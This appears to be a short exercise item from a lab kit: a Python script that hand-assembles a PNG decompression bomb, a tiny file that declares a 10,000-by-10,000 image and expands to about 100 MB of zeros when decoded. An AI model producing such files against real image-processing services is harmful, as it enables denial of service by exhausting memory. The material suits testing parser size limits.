# D48 · a small picture that is enormous once it is opened
# honest: q1=5
from kit.lab import double

# %%
import struct
import zlib

def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

head = struct.pack(">IIBBBBB", 10_000, 10_000, 8, 0, 0, 0, 0)
packer = zlib.compressobj(9)
data = b"".join(packer.compress(bytes(10_001)) for _ in range(10_000)) + packer.flush()
with open("loss.png", "wb") as file:
    file.write(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b""))
